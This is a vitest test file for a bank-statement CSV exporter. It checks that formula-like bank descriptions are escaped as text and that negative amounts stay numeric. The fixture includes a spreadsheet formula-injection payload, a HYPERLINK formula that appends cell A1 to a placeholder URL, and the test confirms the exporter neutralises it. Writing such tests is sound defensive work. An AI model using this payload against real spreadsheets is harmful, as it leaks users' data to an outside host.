import { describe, expect, it } from 'vitest';
import { toCsv } from '@server/services/statement-export';

const rows = (csv: Buffer) =>
  csv
    .toString('utf8')
    .replace(/^\ufeff/, '')
    .split('\r\n')
    .filter(Boolean);

describe('CSV export', () => {
  it('shows bank text that looks like a formula as text, and leaves negative values as numbers', () => {
    const csv = toCsv([
      {
        postedOn: '2026-03-10',
        amountCents: -1500,
        description: '=HYPERLINK("http://x/?"&A1;"ok")',
        memo: '@SUM(1)',
        taxCategoryId: null,
      },
      { postedOn: '2026-03-11', amountCents: 2000, description: '+55 11 PIX', memo: '-desconto', taxCategoryId: null },
      { postedOn: '2026-03-12', amountCents: 300, description: 'PIX RECEBIDO', memo: null, taxCategoryId: null },
    ]);
    const [, first, second, third] = rows(csv);
    expect(first).toBe(`10/03/2026;"'=HYPERLINK(""http://x/?""&A1;""ok"")";'@SUM(1);-15,00;Saída;;`);
    expect(second).toBe(`11/03/2026;'+55 11 PIX;'-desconto;20,00;Entrada;;`);
    expect(third).toBe('12/03/2026;PIX RECEBIDO;;3,00;Entrada;;');
  });
});
